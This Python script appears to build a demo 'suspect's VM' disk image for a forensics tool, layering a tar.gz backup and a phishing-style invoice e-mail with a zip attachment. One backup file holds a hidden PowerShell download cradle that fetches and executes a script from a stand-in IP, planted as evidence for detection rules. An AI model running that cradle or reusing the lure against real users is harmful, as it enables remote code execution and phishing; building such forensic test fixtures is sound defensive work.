"""Build resources/demo/demo-vm.qcow2: the demo's "suspect's VM", a small QCOW2 virtual disk (MBR, one FAT16 volume).

It holds the evidence that only shows when a tool opens what is inside other things: a virtual disk, in it a
tar.gz backup with the demo's PowerShell download cradle among benign documents, and an e-mail whose attachment is
the demo laptop's invoice_update.zip (the very bytes of demo-disk.img's Downloads/invoice_update.zip, read with
mtools, which demo-capture.pcap also carries). See README.md beside this script.

Every layer is made by an ordinary tool, nothing is mounted: sfdisk writes the MBR, mkfs.fat formats the volume in
place, mtools fills it, tar + gzip -n make the backup, Python's email package writes the message, and
`qemu-img convert -O qcow2` turns the raw disk into QCOW2. Times and ids are fixed (SOURCE_DATE_EPOCH for mtools,
mtimes on the staged files, gzip -n, a fixed MIME boundary), so rebuilds are byte-for-byte identical on the same
tool versions.

Usage: python3 resources/demo/make_demo_vm.py [OUT [DEMO_DISK]]
(needs sfdisk, mkfs.fat, mtools, tar, gzip, qemu-img)
"""

from __future__ import annotations

import datetime as dt
import email.policy
import os
import subprocess
import sys
import tempfile
from email.message import EmailMessage
from email.utils import format_datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
SECTOR = 512
START, SECTORS, DISK_SECTORS = 2048, 6144, 8192  # a 3 MiB FAT16 volume (>= 4085 clusters) on a 4 MiB disk
EPOCH = 1709285400  # 2024-03-01 09:30 UTC: mtools' time for new entries and the folders' times
#: The demo disk's update.ps1 (make_demo.sh): a hidden PowerShell download cradle, flagged by rules/powershell.yar.
CRADLE = ("# Invoice viewer update\n"
          "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"\n")
#: The backup's members, path → (text, modification time in UTC).
BACKUP = {
    "documents/meeting-notes.txt": ("Project sync - 2024-02-27\nAttendees: Alex, Sam, Priya\n\n"
                                    "- Q1 numbers are in budget-2024.csv\n- Next meeting: 2024-03-05 10:00\n",
                                    "2024-02-27 16:05:00"),
    "documents/budget-2024.csv": ("month,category,amount_eur\n2024-01,rent,950.00\n2024-02,rent,950.00\n"
                                  "2024-02,travel,129.99\n", "2024-02-29 19:03:00"),
    "documents/todo.txt": ("- renew passport\n- call the bank about the invoice\n", "2024-02-20 08:15:00"),
    "documents/tools/update.ps1": (CRADLE, "2024-02-28 21:14:00"),
}
#: Modification times of the volume's files (UTC).
BACKUP_TIME, MAIL_TIME = "2024-02-29 22:00:00", "2024-02-28 21:12:00"


def utc(text: str) -> int:
    return int(dt.datetime.fromisoformat(text).replace(tzinfo=dt.timezone.utc).timestamp())


def run(*args: str | Path, stdin: bytes | None = None) -> bytes:
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LC_ALL": "C.UTF-8", "TZ": "UTC",
           "MTOOLS_SKIP_CHECK": "1", "SOURCE_DATE_EPOCH": str(EPOCH)}
    return subprocess.run([str(arg) for arg in args], input=stdin, capture_output=True, check=True, env=env).stdout


def backup_tar_gz(work: Path) -> bytes:
    """documents.tar.gz as GNU tar and gzip write it: members sorted, owned by 0:0, fixed modes and times, no name
    or time in the gzip header (-n)."""
    stage = work / "backup"
    for name, (text, when) in BACKUP.items():
        path = stage / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        path.chmod(0o644)
        os.utime(path, (utc(when), utc(when)))
    for folder in sorted((path for path in stage.rglob("*") if path.is_dir()), reverse=True):
        folder.chmod(0o755)
        os.utime(folder, (EPOCH - 3600, EPOCH - 3600))
    archive = run("tar", "-C", stage, "--sort=name", "--format=gnu", "--owner=0", "--group=0", "--numeric-owner",
                  "-cf", "-", "documents")
    return run("gzip", "-n", "-9", "-c", stdin=archive)


def invoice_eml(attachment: bytes) -> bytes:
    """An RFC 5322 message with a text body and invoice_update.zip attached, written by Python's email package with
    a fixed boundary and CRLF line ends, as a mail client saves an .eml."""
    message = EmailMessage(policy=email.policy.SMTP)
    message["Received"] = ("from mail.invoice-portal.example (mail.invoice-portal.example [198.51.100.20]) by "
                           "mx.example.org with ESMTPS id 4TlQ2r0k9Hz; Wed, 28 Feb 2024 21:11:47 +0000")
    message["From"] = "Invoice Portal <billing@invoice-portal.example>"
    message["To"] = "Alex <alex@example.org>"
    message["Subject"] = "Your invoice INV-2024-0228 is ready"
    message["Date"] = format_datetime(dt.datetime.fromtimestamp(utc("2024-02-28 21:11:40"), dt.timezone.utc))
    message["Message-ID"] = "<20240228211140.7f3a21c9@invoice-portal.example>"
    message.set_content("Dear customer,\n\nyour invoice INV-2024-0228 is attached. Open the update in the zip to "
                        "view it with the latest invoice viewer.\n\nKind regards,\nInvoice Portal billing\n")
    message.add_attachment(attachment, maintype="application", subtype="zip", filename="invoice_update.zip")
    message.set_boundary("==demo-vm-invoice-2024==")
    return message.as_bytes()


def main() -> int:
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else HERE / "demo-vm.qcow2"
    disk_image = Path(sys.argv[2]) if len(sys.argv) > 2 else HERE / "demo-disk.img"
    zip_bytes = run("mcopy", "-n", "-i", f"{disk_image}@@{2048 * SECTOR}", "::Downloads/invoice_update.zip", "-")
    with tempfile.TemporaryDirectory() as temp:
        work = Path(temp)
        files = {"backup/documents.tar.gz": (backup_tar_gz(work), BACKUP_TIME),
                 "mail/invoice.eml": (invoice_eml(zip_bytes), MAIL_TIME)}
        raw = work / "demo-vm.raw"
        with raw.open("wb") as handle:
            handle.truncate(DISK_SECTORS * SECTOR)
        run("sfdisk", "--no-reread", "--no-tell-kernel", "-q", raw,
            stdin=f"label: dos\nlabel-id: 0x0a1e2025\nunit: sectors\n\nstart={START}, size={SECTORS}, type=6\n"
            .encode())
        run("mkfs.fat", "-F", "16", "-s", "1", "-n", "SUSPECTVM", "--invariant", "-i", "0a1e2025",
            "-h", str(START), f"--offset={START}", raw, str(SECTORS * SECTOR // 1024))
        drive = f"{raw}@@{START * SECTOR}"
        for folder in sorted({name.split("/")[0] for name in files}):
            run("mmd", "-i", drive, f"::/{folder}")
        for name, (data, when) in sorted(files.items()):
            staged = work / name.replace("/", "_")
            staged.write_bytes(data)
            os.utime(staged, (utc(when), utc(when)))
            run("mcopy", "-m", "-Q", "-i", drive, staged, f"::/{name}")  # -m keeps the staged modification time
        out.unlink(missing_ok=True)
        run("qemu-img", "convert", "-f", "raw", "-O", "qcow2", raw, out)
    print(f"wrote {out} ({out.stat().st_size} bytes)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
